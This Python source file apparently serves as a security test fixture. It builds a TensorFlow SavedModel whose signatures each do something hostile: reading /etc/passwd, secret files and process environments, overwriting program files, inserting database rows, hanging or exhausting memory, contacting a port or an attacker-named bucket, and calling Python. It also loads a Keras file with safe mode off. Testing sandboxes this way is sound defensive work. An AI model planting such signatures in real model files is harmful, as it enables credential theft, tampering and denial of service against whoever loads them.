"""A SavedModel whose signatures each do one deed that a model has no business to do; see TensorFlow's own SECURITY.md."""

from __future__ import annotations

from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from core.base.lean import import_tensorflow
from core.base.progress import Progress, Report

DEEDS = (
    *("read_users", "read_secret", "read_own_variables", "read_callers_variables", "list_processes"),
    *("write_file", "make_file", "append_by_print", "read_rows", "insert_row"),
)
WITHOUT_END = ("hang", "flood", "take_memory")
TO_OTHERS = ("connect", "reach_a_bucket", "call_python")


@dataclass(frozen=True, slots=True, kw_only=True)
class Victims:
    """What is done to: a secret file, a file of program text, a database of jobs, a port that somebody listens at."""

    secret: Path
    program: Path
    database: Path
    port: int

    @property
    def made(self) -> Path:
        """The file that is made beside the program."""
        return Path(f"{self.program}.made")


def save(folder: Path, victims: Victims) -> None:
    """Writes the SavedModel; every signature takes x (float32, [n, 4])."""
    tf = import_tensorflow()

    def after(y: Any, *operations: Any) -> Any:
        with tf.control_dependencies([one for one in operations if one is not None]):
            return tf.identity(y)

    def shown(y: Any, text: Any) -> Any:
        return after(y, tf.print("LEAK>", text, summarize=-1))

    def rows(y: Any, query: str) -> Any:
        found = tf.data.experimental.SqlDataset("sqlite", str(victims.database), query, (tf.string,))
        return shown(y, found.reduce(tf.constant(""), lambda a, b: tf.strings.join([a, b])))

    def callers_variables(y: Any) -> Any:
        parent = tf.strings.split(tf.io.read_file("/proc/self/stat"), " ")[3]
        return shown(y, tf.io.read_file(tf.strings.join(["/proc/", parent, "/environ"])))

    def endless(y: Any, body: Callable[[Any], Any]) -> Any:
        count = tf.while_loop(lambda i: True, body, [tf.constant(0)], parallel_iterations=1)
        return y + tf.cast(count[0], tf.float32)

    def flood(count: Any) -> Any:
        with tf.control_dependencies([tf.print("A" * 4000)]):
            return [count + 1]

    deeds: dict[str, Callable[[Any], Any]] = {
        "read_users": lambda y: shown(y, tf.io.read_file("/etc/passwd")),
        "read_secret": lambda y: shown(y, tf.io.read_file(str(victims.secret))),
        "read_own_variables": lambda y: shown(y, tf.io.read_file("/proc/self/environ")),
        "read_callers_variables": callers_variables,
        "list_processes": lambda y: shown(y, tf.io.matching_files("/proc/[0-9]*/environ")),
        "write_file": lambda y: after(y, tf.raw_ops.WriteFile(filename=str(victims.program), contents="import os\n")),
        "make_file": lambda y: after(y, tf.raw_ops.WriteFile(filename=f"{victims.program}.made", contents="import os\n")),
        "append_by_print": lambda y: after(y, tf.print("import os", output_stream=f"file://{victims.program}")),
        "read_rows": lambda y: rows(y, "select name from jobs"),
        "insert_row": lambda y: rows(y, "insert into jobs values ('mine') returning name"),
        "connect": lambda y: tf.raw_ops.DebugIdentity(
            input=y, tensor_name="t:0", debug_urls=[f"grpc://127.0.0.1:{victims.port}"]
        ),
        "reach_a_bucket": lambda y: shown(y, tf.io.read_file("gs://bucket-of-an-attacker/x")),
        "call_python": lambda y: tf.raw_ops.PyFunc(input=[y], token="pyfunc_0", Tout=[tf.float32])[0],  # noqa: S106
        "hang": lambda y: endless(y, lambda count: [count + 1]),
        "flood": lambda y: endless(y, flood),
        "take_memory": lambda y: y + tf.reduce_max(tf.fill([3000, 1_000_000], tf.reduce_sum(y))) * 0,
    }
    module = tf.Module()
    module.weight = tf.Variable(tf.ones([4, 4]))
    signatures = {}
    for name, deed in deeds.items():

        def serve(x: Any, deed: Callable[[Any], Any] = deed) -> dict[str, Any]:
            return {"y": deed(tf.matmul(x, module.weight))}

        signatures[name] = tf.function(serve, input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
    tf.saved_model.save(module, str(folder), signatures=signatures)


def run(folder: Path, names: list[str], report: Report) -> None:
    """Loads it as every path does and calls the signatures; a line of the log tells each that came to its end."""
    import numpy as np

    tf = import_tensorflow()

    loaded = tf.saved_model.load(str(folder))
    for name in names:
        report(Progress(message=name))
        with suppress(tf.errors.OpError):
            loaded.signatures[name](x=tf.constant(np.ones((1, 4), np.float32)))
            print(f"DONE {name}", flush=True)


def load_trusting(path: Path) -> int:
    """A Keras file as whoever believes it loads it: its programs run."""
    import keras

    return len(keras.models.load_model(path, compile=False, safe_mode=False).layers)
